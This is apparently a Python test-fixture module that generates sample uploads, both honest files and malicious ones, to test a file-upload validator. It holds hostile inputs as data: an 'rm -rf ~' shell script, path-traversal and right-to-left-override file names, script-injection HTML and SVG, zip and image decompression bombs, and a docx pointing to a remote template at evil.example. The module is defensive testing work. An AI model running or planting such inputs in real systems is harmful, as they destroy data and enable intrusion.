"""Files as people send them, honest ones and others: a name and the bytes, made from nothing."""

import io
import zipfile
import zlib
from collections.abc import Callable

from PIL import ExifTags, Image

from coalition.files.enums import CONTENT_TYPES, Format

PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
OFFICE_PARTS = {
    Format.DOCX: "word/document.xml",
    Format.XLSX: "xl/workbook.xml",
    Format.PPTX: "ppt/presentation.xml",
}
TYPES_NAMESPACE = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
THUNDER_BAY = (48.0, 22.0, 55.9)


def zipped(members: dict[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as made:
        for name, data in members.items():
            made.writestr(name, data)
    return out.getvalue()


def office(
    format: Format = Format.DOCX, main: str = "", more: dict | None = None, **options
) -> bytes:
    """An Office Open XML file with one empty part, and `more` members."""
    part = OFFICE_PARTS[format]
    kind = main or f"{CONTENT_TYPES[format]}.main+xml"
    table = (
        f'<?xml version="1.0"?><Types xmlns="{TYPES_NAMESPACE}">'
        f'<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{part}" ContentType="{kind}"/></Types>'
    )
    return zipped({"[Content_Types].xml": table, part: "<w/>", **(more or {})}, **options)


def relation(kind: str, target: str) -> str:
    return (
        f'<Relationships xmlns="x"><Relationship Id="r1" Type="{RELATIONS}/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )


def open_document(kind: str = CONTENT_TYPES[Format.ODT], manifest="<m/>", **more) -> bytes:
    return zipped(
        {"mimetype": kind, "content.xml": "<c/>", "META-INF/manifest.xml": manifest, **more}
    )


def picture(
    format: str = "PNG", size: tuple[int, int] = (60, 40), mode: str = "RGB", **options
) -> bytes:
    """A drawing in one colour."""
    out = io.BytesIO()
    Image.new(mode, size, "teal" if mode.startswith("RGB") else 0).save(out, format, **options)
    return out.getvalue()


def noise(size: tuple[int, int] = (300, 200)) -> Image.Image:
    """As full of detail as a photo."""
    return Image.effect_noise(size, 80).convert("RGB")


def photo(format: str = "JPEG", size: tuple[int, int] = (300, 200)) -> bytes:
    """As a phone takes it: lying on its side, with the place, the time and a word."""
    out = io.BytesIO()
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.Base.Artist] = "Cora Unmistakable"
    exif[ExifTags.IFD.GPSInfo] = {1: "N", 2: THUNDER_BAY, 3: "W", 4: (89.0, 14.0, 46.0)}
    options = {"comment": b"Cora Unmistakable"} if format == "JPEG" else {}
    noise(size).save(out, format, exif=exif, **options)
    return out.getvalue()


def bomb(width: int, height: int) -> bytes:
    """A PNG of some bytes that says it is this large."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data).to_bytes(4, "big")
        return len(data).to_bytes(4, "big") + kind + data + crc

    size = width.to_bytes(4, "big") + height.to_bytes(4, "big")
    header = chunk(b"IHDR", size + b"\x08\x02\0\0\0")
    rows = chunk(b"IDAT", zlib.compress(b"\0" * 1000))
    return b"\x89PNG\r\n\x1a\n" + header + rows + chunk(b"IEND", b"")


def flagged(data: bytes) -> bytes:
    """The same zip, said to be encrypted."""
    at = data.index(b"PK\1\2") + 8
    return data[:at] + b"\1\0" + data[at + 2 :]


def lying(data: bytes, name: bytes) -> bytes:
    """The same zip, whose table of contents gives another size for this member."""
    at = data.rindex(name) - 46 + 24
    return data[:at] + (3).to_bytes(4, "little") + data[at + 4 :]


def twice(name: str) -> bytes:
    """A docx with two members of the same name."""
    other = name.replace("d", "D", 1)
    return office(more={other: "<other/>"})


PLAIN = "Where to go for a kit: Éloïse knows.\n"
TABLE = "name,town\nÉloïse’s place,Kenora\n"
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
HEIC = b"\0\0\0\x18ftypheic" + b"\0" * 100

# By the first column of the tables in docs/files.md.
SAMPLES: dict[str, Callable[[], tuple[str, bytes]]] = {
    "a PDF": lambda: ("guide.pdf", PDF),
    "a PDF with empty lines before it": lambda: ("guide.pdf", b"\r\n\r\n" + PDF),
    "a PDF that may not be printed": lambda: (
        "guide.pdf",
        PDF.replace(b"<</Root", b"<</Encrypt 2 0 R/Root"),
    ),
    "a Word document": lambda: ("plan.docx", office()),
    "an Excel workbook": lambda: ("plan.xlsx", office(Format.XLSX)),
    "a PowerPoint presentation": lambda: ("plan.pptx", office(Format.PPTX)),
    "an OpenDocument text": lambda: ("plan.odt", open_document()),
    "an OpenDocument spreadsheet": lambda: (
        "plan.ods",
        open_document(CONTENT_TYPES[Format.ODS]),
    ),
    "an OpenDocument presentation": lambda: (
        "plan.odp",
        open_document(CONTENT_TYPES[Format.ODP]),
    ),
    "a CSV in UTF-8": lambda: ("towns.csv", TABLE.encode()),
    "a CSV in UTF-16, as Excel saves “Unicode text”": lambda: (
        "towns.csv",
        TABLE.encode("utf-16"),
    ),
    "a French CSV as older Excel saves it": lambda: ("towns.csv", TABLE.encode("cp1252")),
    "a plain text": lambda: ("notes.txt", PLAIN.encode()),
    "a text without an ending": lambda: ("notes", PLAIN.encode()),
    "a photo with the place it was taken at": lambda: ("photo.jpeg", photo()),
    "a PNG that is a drawing": lambda: ("logo.png", picture()),
    "a PNG with transparency": lambda: ("logo.png", picture(mode="RGBA", size=(64, 64))),
    "a PNG that is a photo": lambda: ("photo.png", photo("PNG")),
    "a WebP": lambda: ("photo.webp", photo("WEBP")),
    "a JPEG called .png": lambda: ("photo.png", photo()),
    "a picture called .pdf": lambda: ("scan.pdf", picture()),
    "a Word document called .pdf": lambda: ("plan.pdf", office()),
    "a PDF without an ending": lambda: ("Plan 2.5", PDF),
    "a name with a path": lambda: ("../../etc/passwd.pdf", PDF),
    "a name with a Windows path": lambda: (r"C:\x\y.pdf", PDF),
    "a name that turns the direction of text": lambda: ("ann\u202eexe.pdf", PDF),
    "a name with a null": lambda: ("pl\0an.pdf", PDF),
    "a name with reserved characters": lambda: ('Who? <What>: "*|%.pdf', PDF),
    "a name that is hidden": lambda: ("..htaccess.pdf", PDF),
    "a name that Windows keeps for devices": lambda: ("con.pdf", PDF),
    "a name of 300 characters": lambda: ("n" * 300 + ".pdf", PDF),
    "a name of which nothing is left": lambda: ("\u200f/??.pdf", PDF),
    "a file of 0 bytes": lambda: ("plan.pdf", b""),
    "a text of spaces": lambda: ("notes.txt", b" \r\n\t\n"),
    "a document over 20 MB": lambda: ("guide.pdf", PDF.ljust(20_000_001)),
    "a picture over 10 MB": lambda: ("photo.jpg", photo().ljust(10_000_001)),
    "several files over 25 MB together": lambda: ("guide.pdf", PDF),
    "HTML": lambda: ("page.html", HTML),
    "HTML called .pdf": lambda: ("guide.pdf", HTML),
    "HTML after some text": lambda: ("notes.txt", b"Dear all,\n" * 20 + HTML),
    "an SVG with a script": lambda: ("logo.svg", SVG),
    "an SVG called .png": lambda: ("logo.png", b'<?xml version="1.0"?>\n' + SVG),
    "XML": lambda: ("feed.txt", b"<feed><entry/></feed>"),
    "a PDF that is HTML as well": lambda: (
        "guide.pdf",
        PDF.replace(b"\n", b"\n%<html><script>alert(1)</script>\n", 1),
    ),
    "a script": lambda: ("notes.txt", b"#!/bin/sh\nrm -rf ~\n"),
    "JavaScript": lambda: ("notes.js", b"alert(1)"),
    "a text called .docx": lambda: ("plan.docx", PLAIN.encode()),
    "a program called .docx": lambda: ("plan.docx", b"MZ\x90\0\3" + b"\0" * 500),
    "a zip": lambda: ("plans.zip", zipped({"plan.pdf": PDF})),
    "a zip called .docx": lambda: ("plan.docx", zipped({"plan.pdf": PDF})),
    "a jar": lambda: ("plan.docx", zipped({"META-INF/MANIFEST.MF": "Main-Class: X"})),
    "another archive": lambda: ("plans.7z", b"7z\xbc\xaf\x27\x1c" + b"\0" * 100),
    "an encrypted zip": lambda: ("plan.docx", flagged(office())),
    "an OpenDocument with a password": lambda: (
        "plan.odt",
        open_document(manifest="<m:encryption-data/>"),
    ),
    "a Word document with a password, or .doc": lambda: ("plan.docx", OLE),
    "a docm": lambda: (
        "plan.docm",
        office(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
    ),
    "a docx with vbaProject.bin": lambda: (
        "plan.docx",
        office(more={"word/vbaProject.bin": "x"}),
    ),
    "a docx with ActiveX": lambda: (
        "plan.docx",
        office(more={"word/activeX/activeX1.bin": "x"}),
    ),
    "an xlsx with Excel 4 macros": lambda: (
        "plan.xlsx",
        office(Format.XLSX, more={"xl/macrosheets/sheet1.xml": "<x/>"}),
    ),
    "a docx with a program in it": lambda: (
        "plan.docx",
        office(more={"word/embeddings/invoice.exe": "MZ"}),
    ),
    "an OpenDocument with Basic": lambda: (
        "plan.odt",
        open_document(**{"Basic/Standard/Module1.xml": "<x/>"}),
    ),
    "a docx with a template on the web": lambda: (
        "plan.docx",
        office(
            more={
                "word/_rels/settings.xml.rels": relation(
                    "attachedTemplate", "https://evil.example/x.dotm"
                )
            }
        ),
    ),
    "a Word template": lambda: (
        "plan.docx",
        office(main=CONTENT_TYPES[Format.DOCX].replace(".document", ".template") + ".main+xml"),
    ),
    "an OpenDocument template": lambda: (
        "plan.odt",
        open_document(f"{CONTENT_TYPES[Format.ODT]}-template"),
    ),
    "a zip bomb as .docx": lambda: ("plan.docx", office(more={"word/x.xml": b"\0" * 40_000_000})),
    "a docx whose table of contents lies": lambda: (
        "plan.docx",
        lying(office(more={"word/x.xml": b"\0" * 40_000}), b"word/x.xml"),
    ),
    "a docx with two members of one name": lambda: ("plan.docx", twice("word/document.xml")),
    "a docx with a DOCTYPE": lambda: (
        "plan.docx",
        office(more={"word/_rels/x.rels": '<!DOCTYPE x [<!ENTITY a "aaa">]><x>&a;</x>'}),
    ),
    "a docx packed with LZMA": lambda: ("plan.docx", office(method=zipfile.ZIP_LZMA)),
    "a docx cut short": lambda: ("plan.docx", office()[:-100]),
    "a PDF cut short": lambda: ("guide.pdf", PDF[:-10]),
    "rich text": lambda: ("plan.rtf", rb"{\rtf1\ansi Hello}"),
    "a GIF": lambda: ("logo.gif", picture("GIF", mode="L")),
    "a HEIC photo": lambda: ("IMG_1.HEIC", HEIC),
    "an image bomb": lambda: ("photo.png", bomb(6000, 6000)),
    "an image bomb beyond what Pillow would open": lambda: ("photo.png", bomb(60_000, 60_000)),
    "a picture cut short": lambda: ("photo.jpg", photo()[:-4000]),
    "a video": lambda: ("film.mp4", b"\0\0\0\x20ftypisom" + b"\0" * 100),
    "binary data called .csv": lambda: ("towns.csv", bytes(range(256)) * 4),
    "a text with the accents of old Macs": lambda: ("notes.txt", PLAIN.encode("mac-roman")),
    "a PDF where only a picture will do": lambda: ("guide.pdf", PDF),
    "a HEIC where only a picture will do": lambda: ("IMG_1.heic", HEIC),
}
